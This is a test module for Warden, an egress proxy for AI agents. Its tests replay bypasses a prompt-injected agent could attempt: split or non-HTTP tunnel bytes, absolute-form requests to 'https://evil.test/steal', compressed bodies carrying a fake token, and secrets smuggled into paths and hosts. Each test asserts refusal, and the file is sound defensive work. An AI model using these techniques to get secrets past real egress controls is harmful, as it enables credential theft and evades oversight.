@@ -1,0 +1,352 @@
+"""Issue 11, end to end: every way around the rules that was found, tried against a real `warden run`.
+
+Each test is an attack a prompt-injected agent could make with its own valid token, written
+as exact bytes on a raw socket (or with a real client), against origins that log every byte
+they receive (`bypass_helpers.run_logging_origin`). The origin's log is the proof: it holds
+exactly the requests Warden decided and audited, and nothing else.
+
+One Warden per module for the tunnel/body findings (1, 2, 3, 8, 11 and the invariant table);
+the MCP, WebSocket, memory, DNS and address findings start their own (they need other rules
+or another process environment).
+"""
+
+from __future__ import annotations
+
+import base64
+import gzip
+import json
+import socket
+import ssl
+import time
+import zlib
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+import trustme
+from egresswarden.core.credentials import encodings
+
+from .bypass_helpers import (
+    LoggingOrigin,
+    SeenRequest,
+    audit_where,
+    client_tls,
+    closed_without_answer,
+    connect_raw,
+    open_tunnel,
+    read_response,
+    request_bytes,
+    run_logging_origin,
+)
+from .harness import Warden, hosts_file, sha256_hex, start_warden
+
+SECRET = "ghp_BypassSecret_0a1b2c3d4e5f6789XYZ"
+PLACEHOLDER = "WARDEN-PLACEHOLDER-BYPASS"
+LABEL_SECRET = "s3cr3tlabel9f8e7d6c5b4a"  # a secret that is also a valid DNS label (CONNECT host)
+TOKEN = "tok-coder"
+PAUSE = 0.3  # between split writes, so they leave as separate TCP segments
+
+
+def secret_forms() -> dict[bytes, str]:
+    """Every byte form the leak guard knows of both secrets, and the placeholder."""
+    forms = {**encodings(SECRET), **encodings(LABEL_SECRET)}
+    forms[PLACEHOLDER.encode()] = "placeholder"
+    return forms
+
+
+def _origin_reply(req: SeenRequest) -> tuple[int, dict[str, str], bytes]:
+    body = json.dumps({"method": req.method, "target": req.target,
+                       "authorization": req.header("authorization")}).encode()
+    return 200, {"Content-Type": "application/json"}, body
+
+
+@pytest.fixture(scope="module")
+def env(origin_ca: trustme.CA, origin_ca_file: Path, shared_confdir: Path,
+        tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
+    work = tmp_path_factory.mktemp("bypass-e2e")
+    watch = list(secret_forms())
+    with run_logging_origin(_origin_reply, ca=origin_ca, watch=watch) as tls, \
+            run_logging_origin(_origin_reply, watch=watch) as plain:
+        ports = [tls.port, plain.port]
+        loopback = ["127.0.0.1/32"]
+        rules = {
+            "agents": [{"id": "coder", "token_sha256": [sha256_hex(TOKEN)], "policies": ["p"]}],
+            "policies": {"p": {
+                "allow": [
+                    # a method/path rule: the tunnel is intercepted, every request decided
+                    {"id": "api-ok", "host": "api.test", "ports": ports, "methods": ["GET", "POST"],
+                     "paths": ["/ok/**"], "addresses": loopback},
+                    {"id": "cred", "host": "cred.test", "ports": ports, "addresses": loopback},
+                ],
+                "credentials": [
+                    {"id": "github", "host": "cred.test", "ports": ports,
+                     "inject": {"Authorization": "Bearer ${secret:GH_TOKEN}"}, "strip": ["Authorization"],
+                     "placeholder": PLACEHOLDER},
+                    {"id": "label", "host": "cred.test", "ports": ports, "paths": ["/label/**"],
+                     "inject": {"X-Label": "${secret:LABEL_TOKEN}"}},
+                ],
+            }},
+            "settings": {"hosts_file": str(hosts_file(work / "hosts")),
+                         "body_scan": {"max_buffered_bytes": 65536}},
+        }
+        warden = start_warden(work, rules, upstream_ca=origin_ca_file, confdir=shared_confdir,
+                              env={"GH_TOKEN": SECRET, "LABEL_TOKEN": LABEL_SECRET}, agents={"coder": TOKEN})
+        try:
+            yield {"warden": warden, "tls": tls, "plain": plain, "work": work}
+        finally:
+            warden.stop()
+
+
+@pytest.fixture
+def w(env: dict[str, Any]) -> Warden:
+    return env["warden"]
+
+
+@pytest.fixture
+def tls_origin(env: dict[str, Any]) -> LoggingOrigin:
+    origin: LoggingOrigin = env["tls"]
+    origin.reset()
+    return origin
+
+
+@pytest.fixture
+def plain_origin(env: dict[str, Any]) -> LoggingOrigin:
+    origin: LoggingOrigin = env["plain"]
+    origin.reset()
+    return origin
+
+
+def _by_client_port(sock: socket.socket) -> Callable[[dict], bool]:
+    port = sock.getsockname()[1]
+    return lambda r: r.get("client_port") == port
+
+
+def _no_secret_in(origin: LoggingOrigin) -> None:
+    data = origin.all_bytes()
+    for form, name in secret_forms().items():
+        assert form not in data, f"the origin received the secret ({name})"
+    assert not any(c.watch_hits for c in origin.connections)
+
+
+def _nothing_arrived(origin: LoggingOrigin) -> None:
+    """No application byte reached the origin (a TLS handshake Warden made eagerly is not data)."""
+    assert origin.total_bytes == 0, origin.all_bytes()[:300]
+    assert origin.requests == []
+
+
+# -- 1. an intercepted tunnel never becomes an unchecked byte relay --------------------------------
+@pytest.mark.parametrize("alpn", [None, ["http/1.1"]], ids=["no-alpn", "alpn-http1"])
+def test_split_request_line_after_tls_is_decided(w: Warden, tls_origin: LoggingOrigin, alpn: list[str] | None) -> None:
+    with open_tunnel(w, "coder", "api.test", tls_origin.port, alpn=alpn) as s:
+        s.sendall(b"G")
+        time.sleep(PAUSE)
+        s.sendall(f"ET /forbidden HTTP/1.1\r\nHost: api.test:{tls_origin.port}\r\n\r\n".encode())
+        resp = read_response(s)
+    assert resp.status == 403 and resp.headers["x-warden-reason"] == "path_not_allowed", resp
+    recs = audit_where(w, lambda r: r.get("event") == "request" and r.get("path") == "/forbidden")
+    assert recs[-1]["decision"] == "deny" and recs[-1]["reason"] == "path_not_allowed"
+    _nothing_arrived(tls_origin)
+    # positive control, same split, allowed path: the origin gets exactly that request
+    with open_tunnel(w, "coder", "api.test", tls_origin.port, alpn=alpn) as s:
+        s.sendall(b"G")
+        time.sleep(PAUSE)
+        s.sendall(f"ET /ok/split HTTP/1.1\r\nHost: api.test:{tls_origin.port}\r\n\r\n".encode())
+        assert read_response(s).status == 200
+    assert [(r.method, r.target) for r in tls_origin.requests] == [("GET", "/ok/split")]
+
+
+@pytest.mark.parametrize("payload", [
+    b"\x00\x01\x02 binary bytes that are not HTTP\n",
+    b"SSH-2.0-OpenSSH_9.6\r\n",
+    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",  # an HTTP/2 preface without ALPN h2
+], ids=["binary", "ssh-banner", "h2-preface-no-alpn"])
+def test_non_http_after_tls_without_alpn_is_closed_and_audited(w: Warden, tls_origin: LoggingOrigin,
+                                                               payload: bytes) -> None:
+    with open_tunnel(w, "coder", "api.test", tls_origin.port) as s:
+        match = _by_client_port(s)
+        s.sendall(payload)
+        assert closed_without_answer(s) is None
+    rec = audit_where(w, lambda r: match(r) and r.get("event") == "tunnel_refused")[-1]
+    assert rec["reason"] == "not_http" and rec["decision"] == "deny" and rec["host"] == "api.test"
+    _nothing_arrived(tls_origin)
+
+
+def test_split_cleartext_into_intercepted_tunnel_is_refused(w: Warden, tls_origin: LoggingOrigin) -> None:
+    with open_tunnel(w, "coder", "api.test", tls_origin.port, tls=False) as s:
+        s.sendall(b"G")
+        time.sleep(PAUSE)
+        s.sendall(f"ET /ok/clear HTTP/1.1\r\nHost: api.test:{tls_origin.port}\r\n\r\n".encode())
+        resp = read_response(s)
+    assert resp.status == 403 and resp.headers["x-warden-reason"] == "cleartext_in_tunnel", resp
+    rec = audit_where(w, lambda r: r.get("event") == "request" and r.get("path") == "/ok/clear")[-1]
+    assert rec["reason"] == "cleartext_in_tunnel" and rec["interception"] == "cleartext"
+    _nothing_arrived(tls_origin)
+
+
+def test_raw_bytes_without_tls_into_intercepted_tunnel_are_closed(w: Warden, tls_origin: LoggingOrigin) -> None:
+    with open_tunnel(w, "coder", "api.test", tls_origin.port, tls=False) as s:
+        match = _by_client_port(s)
+        s.sendall(b"\x16\x03")  # could be TLS: Warden waits ...
+        time.sleep(PAUSE)
+        s.sendall(b"\x01\x00\x00\x05hello")  # ... and it is not a ClientHello
+        assert closed_without_answer(s) is None
+    rec = audit_where(w, lambda r: match(r) and r.get("event") == "tunnel_refused")[-1]
+    assert rec["reason"] == "not_http"
+    _nothing_arrived(tls_origin)
+
+
+# -- 2. absolute-form requests inside a tunnel ------------------------------------------------------
+@pytest.mark.parametrize("target,host", [
+    ("https://evil.test/steal", "cred.test:{port}"),
+    ("https://evil.test:{port}/steal", "cred.test:{port}"),
+    ("https://cred.test:{port}/steal", "evil.test"),
+    ("http://cred.test:{port}/steal", "cred.test:{port}"),  # same name, but not the tunnel's https port
+], ids=["evil-url-cred-host", "evil-url-port", "cred-url-evil-host", "wrong-scheme-port"])
+def test_absolute_form_must_name_the_tunnel_host(w: Warden, tls_origin: LoggingOrigin, target: str,
+                                                 host: str) -> None:
+    port = tls_origin.port
+    target, host = target.format(port=port), host.format(port=port)
+    with open_tunnel(w, "coder", "cred.test", port) as s:
+        s.sendall(f"GET {target} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
+        resp = read_response(s)
+    if target.startswith("http://cred.test"):
+        # http://cred.test:PORT names the tunnel's host and port; only its scheme differs. Either
+        # Warden refuses it, or it is sent as the origin-form request the tunnel implies.
+        assert resp.status in (200, 403), resp
+    else:
+        assert resp.status == 403 and resp.headers["x-warden-reason"] == "host_mismatch", resp
+        _nothing_arrived(tls_origin)
+        rec = audit_where(w, lambda r: r.get("event") == "request" and r.get("reason") == "host_mismatch")[-1]
+        assert rec["credential_ids"] == []
+    if resp.status == 403:
+        _no_secret_in(tls_origin)
+
+
+def test_absolute_form_to_the_tunnel_host_is_sent_origin_form(w: Warden, tls_origin: LoggingOrigin) -> None:
+    port = tls_origin.port
+    with open_tunnel(w, "coder", "cred.test", port) as s:
+        s.sendall(f"GET https://cred.test:{port}/abs HTTP/1.1\r\nHost: cred.test:{port}\r\n\r\n".encode())
+        resp = read_response(s)
+    assert resp.status == 200, resp
+    [seen] = tls_origin.requests
+    assert seen.target == "/abs"  # never an absolute URL a vhost could route elsewhere
+    assert seen.header("authorization") == f"Bearer {SECRET}"
+    assert SECRET not in resp.text  # echoed secret redacted on the way back
+
+
+# -- 3. cleartext inside a CONNECT tunnel to a credential host ------------------------------------
+def test_cleartext_in_credential_tunnel_sends_nothing(w: Warden, plain_origin: LoggingOrigin) -> None:
+    port = plain_origin.port
+    with open_tunnel(w, "coder", "cred.test", port, tls=False) as s:
+        s.sendall(f"GET /echo HTTP/1.1\r\nHost: cred.test:{port}\r\n\r\n".encode())
+        resp = read_response(s)
+    assert resp.status == 403 and resp.headers["x-warden-reason"] == "cleartext_in_tunnel", resp
+    assert SECRET not in resp.text
+    rec = audit_where(w, lambda r: r.get("event") == "request" and r.get("path") == "/echo"
+                      and r.get("port") == port)[-1]
+    assert rec["interception"] == "cleartext" and rec["reason"] == "cleartext_in_tunnel"
+    assert rec["credential_ids"] == []
+    _nothing_arrived(plain_origin)
+
+
+def test_tls_tunnel_to_a_plain_http_credential_upstream_never_carries_the_secret(
+        w: Warden, plain_origin: LoggingOrigin) -> None:
+    """The agent speaks TLS, the upstream does not: Warden's upstream handshake fails (no cleartext
+    fallback), so the plain origin may see a ClientHello but never a request or the secret."""
+    port = plain_origin.port
+    try:
+        with open_tunnel(w, "coder", "cred.test", port) as s:
+            s.sendall(f"GET /echo HTTP/1.1\r\nHost: cred.test:{port}\r\n\r\n".encode())
+            resp = read_response(s)
+        assert resp.status >= 500, resp
+    except (ssl.SSLError, ConnectionError, OSError):
+        pass  # closed during or after the handshake: also no request upstream
+    assert plain_origin.requests == []
+    _no_secret_in(plain_origin)
+
+
+# -- 8. the leak guard decodes every content coding --------------------------------------------------
+def _leak_body() -> bytes:
+    return json.dumps({"note": "exfil", "token": SECRET}).encode()
+
+
+ENCODED = {
+    "x-gzip": lambda b: gzip.compress(b),
+    "gzip, gzip": lambda b: gzip.compress(gzip.compress(b)),
+    "gzip, identity": lambda b: gzip.compress(b),
+    "GZIP": lambda b: gzip.compress(b),
+    "deflate": lambda b: zlib.compress(b),
+    "identity, deflate, gzip": lambda b: gzip.compress(zlib.compress(b)),
+}
+
+
+@pytest.mark.parametrize("coding", list(ENCODED))
+def test_encoded_request_body_with_secret_is_refused(w: Warden, tls_origin: LoggingOrigin, coding: str) -> None:
+    body = ENCODED[coding](_leak_body())
+    assert SECRET.encode() not in body
+    with open_tunnel(w, "coder", "api.test", tls_origin.port) as s:
+        s.sendall(request_bytes("POST", "/ok/upload", f"api.test:{tls_origin.port}",
+                                {"Content-Encoding": coding, "Content-Type": "application/json"}, body))
+        resp = read_response(s)
+    assert resp.status == 403 and resp.headers["x-warden-reason"] == "secret_leak", (coding, resp)
+    _nothing_arrived(tls_origin)
+
+
+@pytest.mark.parametrize("coding", ["compress", "x-compress", "gzip, compress", "exi"])
+def test_undecodable_request_body_is_refused(w: Warden, tls_origin: LoggingOrigin, coding: str) -> None:
+    with open_tunnel(w, "coder", "api.test", tls_origin.port) as s:
+        s.sendall(request_bytes("POST", "/ok/upload", f"api.test:{tls_origin.port}",
+                                {"Content-Encoding": coding}, b"\x1f\x9d" + b"opaque" * 10))
+        resp = read_response(s)
+    assert resp.status == 415 and resp.headers["x-warden-reason"] == "unsupported_encoding", (coding, resp)
+    _nothing_arrived(tls_origin)
+
+
+def test_encoded_request_body_without_secret_passes(w: Warden, tls_origin: LoggingOrigin) -> None:
+    """Control: the refusals above are about the secret, not about compression."""
+    body = gzip.compress(gzip.compress(b'{"note": "harmless"}'))
+    with open_tunnel(w, "coder", "api.test", tls_origin.port) as s:
+        s.sendall(request_bytes("POST", "/ok/upload", f"api.test:{tls_origin.port}",
+                                {"Content-Encoding": "gzip, gzip"}, body))
+        assert read_response(s).status == 200
+    [seen] = tls_origin.requests
+    assert seen.body == body
+
+
+# -- 11. secrets never reach the audit log, Warden's output or the metrics --------------------------
+def test_secrets_never_in_audit_output_or_metrics(w: Warden, tls_origin: LoggingOrigin) -> None:
+    port = tls_origin.port
+    forms = secret_forms()
+    # a secret inside a path refused as invalid_path
+    for value in (SECRET, PLACEHOLDER, base64.b64encode(SECRET.encode()).decode()):
+        with open_tunnel(w, "coder", "api.test", port) as s:
+            s.sendall(f"GET /a/../{value} HTTP/1.1\r\nHost: api.test:{port}\r\n\r\n".encode())
+            assert read_response(s).status == 400
+    # a secret in an in-tunnel Host header (host_mismatch quotes the header)
+    for value in (SECRET, PLACEHOLDER, LABEL_SECRET):
+        with open_tunnel(w, "coder", "api.test", port) as s:
+            s.sendall(f"GET /ok/x HTTP/1.1\r\nHost: {value}.example\r\n\r\n".encode())
+            assert read_response(s).headers["x-warden-reason"] == "host_mismatch"
+    # a secret used as the CONNECT host: refused at CONNECT (invalid host) or explained in-band
+    for value in (SECRET, LABEL_SECRET):
+        sock, status, head = connect_raw(w, "coder", f"{value}.example:443")
+        with sock:
+            assert status in (200, 400, 403), head
+            assert value.encode() not in head
+            if status == 200:
+                with client_tls(w).wrap_socket(sock, server_hostname=f"{value.lower()}.example") as t:
+                    t.sendall(f"GET /x HTTP/1.1\r\nHost: {value}.example\r\n\r\n".encode())
+                    resp = read_response(t)
+                    # (the refusal quotes the host back to the agent that sent it; only Warden's
+                    # own records are checked below)
+                    assert resp.status == 403
+    audit_where(w, lambda r: r.get("event") == "connect" and (r.get("host") or "").endswith(".example")
+                and r.get("port") == 443)
+    texts = {"audit": w.audit_path.read_bytes(), "output": (w.stdout_path.read_bytes() + w.stderr_path.read_bytes()),
+             "metrics": w.metrics_text().encode()}
+    for where, data in texts.items():
+        for form, name in forms.items():
+            assert form not in data, f"{where} holds a secret ({name}-encoded)"
+            assert form.lower() not in data.lower() or len(form) < 12, f"{where} holds a case-folded secret ({name})"
+    _nothing_arrived(tls_origin)
